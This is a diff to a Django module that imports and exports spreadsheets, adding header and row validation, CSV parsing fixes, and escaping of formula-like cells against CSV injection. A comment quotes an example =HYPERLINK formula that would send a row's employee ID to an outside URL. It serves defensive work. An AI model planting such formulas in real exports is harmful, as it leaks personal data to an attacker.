@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import dataclass
 from typing import Any
 
 from django.conf import settings
 from openpyxl import Workbook, load_workbook
+from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font, PatternFill
 from openpyxl.utils import get_column_letter
 
@@ -101,6 +103,35 @@ def bounded_row(raw: Sequence[Any], max_columns: int) -> Sequence[Any]:
     return raw[:end]
 
 
+def repeated_headers(headers: Sequence[str]) -> str | None:
+    """The problem with a header row that names a column twice (reading one copy would drop
+    the other's values without a word), or None."""
+    named = [h for h in headers if h]
+    twice = sorted({h for h in named if named.count(h) > 1})
+    if not twice:
+        return None
+    return (
+        "Judul kolom muncul lebih dari sekali: "
+        + ", ".join(f"'{h}'" for h in twice)
+        + ". Hapus atau ganti nama kolom yang ganda, lalu unggah lagi. Tidak ada data yang diubah."
+    )
+
+
+def cells_beyond_headers(number: int, cells: Sequence[str], headers: Sequence[str]) -> str | None:
+    """The problem with row `number` when it holds a value under no header (an unquoted comma
+    in an address shifts the rest of the row; a note typed beside the table), or None: such a
+    value would otherwise be dropped without a word."""
+    for i, cell in enumerate(cells):
+        if cell and (i >= len(headers) or not headers[i]):
+            return (
+                f"Baris {number} berisi isian di kolom ke-{i + 1} yang tidak berjudul "
+                f"('{cell[:40]}'). Jika isian memuat tanda koma atau titik koma, apit isian itu "
+                "dengan tanda kutip; jika kolom itu memang perlu, beri judul. Tidak ada data "
+                "yang diubah."
+            )
+    return None
+
+
 def _build(
     raw_rows: Iterable[Sequence[Any]], first_row_number: int = 1, max_rows: int | None = None
 ) -> Table:
@@ -119,6 +150,8 @@ def _build(
             break
     if not headers:
         raise TableError("Berkas kosong: baris judul kolom tidak ditemukan.")
+    if problem := repeated_headers(headers):
+        raise TableError(problem)
     rows: list[tuple[int, dict[str, str]]] = []
     numeric: set[tuple[int, str]] = set()
     for raw in iterator:
@@ -127,6 +160,8 @@ def _build(
         cells = [_cell_text(v) for v in raw]
         if not any(cells):
             continue
+        if problem := cells_beyond_headers(number, cells, headers):
+            raise TableError(problem)
         if len(rows) == max_rows:
             raise TableError(
                 f"Berkas berisi lebih dari {format_number(max_rows)} baris data; bagi menjadi "
@@ -171,9 +206,75 @@ def _read_csv(data: bytes, max_rows: int | None = None) -> Table:
         raise TableError("Berkas CSV tidak dapat dibaca (encoding tidak dikenal).")
     if "\x00" in text:
         raise TableError("Berkas bukan CSV teks yang valid.")
-    sample = text[:4096]
-    delimiter = ";" if sample.count(";") > sample.count(",") else ","
-    return _build(csv.reader(io.StringIO(text), delimiter=delimiter), max_rows=max_rows)
+    # The separator is the header line's: Excel in an Indonesian locale saves with ";", and
+    # the data rows' own commas (addresses, titles such as "S.Kep., Ners") must not outvote it.
+    header_line = next((line for line in text.splitlines() if line.strip()), "")
+    delimiter = ";" if header_line.count(";") > header_line.count(",") else ","
+    # newline="": the csv module sees the file's own line endings, so a file saved with
+    # CR alone (Excel for Mac's "CSV (Macintosh)") and a line break inside quotes both read.
+    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    return _build(_csv_rows(reader), max_rows=max_rows)
+
+
+def _csv_rows(reader: Any) -> Iterator[list[str]]:
+    """The reader's rows, its errors (a damaged file, a field past the csv module's limit of
+    131,072 characters) turned into a TableError the person can act on."""
+    try:
+        yield from reader
+    except csv.Error as exc:
+        raise TableError(
+            f"Berkas CSV rusak di sekitar baris {reader.line_num} (misalnya tanda kutip yang "
+            "tidak ditutup, atau satu isian yang sangat panjang). Simpan ulang dari Excel "
+            "sebagai CSV atau XLSX, lalu unggah lagi. Tidak ada data yang diubah."
+        ) from exc
+
+
+# --- Writing: text stays text ----------------------------------------------------------------
+#
+# A cell a spreadsheet would run as a formula is the "CSV injection" of OWASP: a name typed as
+# =HYPERLINK("http://…?"&A2, "klik") sends the row's NIP away when an administrator clicks the
+# exported file. Kinerja writes no formula of its own, so every value is written as text.
+
+_PLAIN_SIGNED = re.compile(r"[+-][\d\s().,/+-]*")
+
+
+def formula_like(text: str) -> bool:
+    """Whether a spreadsheet would read `text` as a formula: it starts with "=" or "@", a tab
+    or a carriage return, or with "+" or "-" followed by more than a number or a telephone
+    number ("+62 812-3456-7890" and "-2,5" stay as they are)."""
+    if not text:
+        return False
+    if text[0] in "=@\t\r":
+        return True
+    return text[0] in "+-" and not _PLAIN_SIGNED.fullmatch(text)
+
+
+def formulas_as_text(workbook: Workbook) -> None:
+    """Every cell openpyxl took for a formula (a string starting with "=") written as the
+    text it is. For the workbooks built in memory; a write-only sheet uses `text_cell`."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
+
+
+def text_cell(sheet: Any, value: Any) -> Any:
+    """`value` for a write-only sheet's row: a string openpyxl would take for a formula comes
+    back as a text cell, anything else as it is."""
+    if isinstance(value, str) and value.startswith("="):
+        cell = WriteOnlyCell(sheet, value=value)
+        cell.data_type = "s"
+        return cell
+    return value
+
+
+def csv_text(value: Any) -> Any:
+    """A CSV cell: a formula-like text gets a leading apostrophe, the mark that tells a
+    spreadsheet to show what follows as text (a CSV has no cell types to say so)."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
 
 
 def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
@@ -195,6 +296,7 @@ def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]
             cell.font = Font(bold=True)
             cell.fill = PatternFill("solid", fgColor="DDEBF7")
         sheet.freeze_panes = "A2"
+    formulas_as_text(workbook)
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
@@ -205,5 +307,5 @@ def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
     writer = csv.writer(buffer)
     writer.writerow(headers)
     for row in rows:
-        writer.writerow(["" if v is None else v for v in row])
+        writer.writerow(["" if v is None else csv_text(v) for v in row])
     return buffer.getvalue().encode("utf-8-sig")
